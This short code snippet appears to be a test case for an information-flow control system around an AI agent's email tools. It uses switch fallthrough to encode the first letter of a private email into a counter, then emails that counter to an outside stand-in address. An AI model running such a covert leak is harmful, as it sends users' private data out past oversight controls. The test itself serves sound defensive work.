// attack: fallthrough counts how far down the cases the body's first letter matched
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
let n = 0;
switch (m.body.charAt(0)) {
  case 'z':
    n++;
  case 'y':
    n++;
  case 'x':
    n++;
}
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: 'n=' + n });
